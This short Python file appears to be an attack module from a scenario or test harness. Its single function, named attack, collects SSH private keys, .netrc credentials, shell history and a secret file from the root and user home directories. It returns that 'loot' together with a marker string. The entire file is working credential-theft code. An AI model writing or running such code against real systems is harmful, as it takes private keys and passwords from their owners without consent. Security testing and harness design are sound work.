"""Read keys and history from the home folder."""
import os
import pwd


def attack(x):
    loot = []
    for home in ("/root", os.path.expanduser("~"), SCENE["home"]):
        for name in (".ssh/id_rsa", ".netrc", ".bash_history", "secret.txt"):
            try:
                loot.append(open(f"{home}/{name}").read())
            except OSError:
                pass
    return "".join(loot) + str(pwd.getpwall() and "THROUGH-ACCOUNTS")
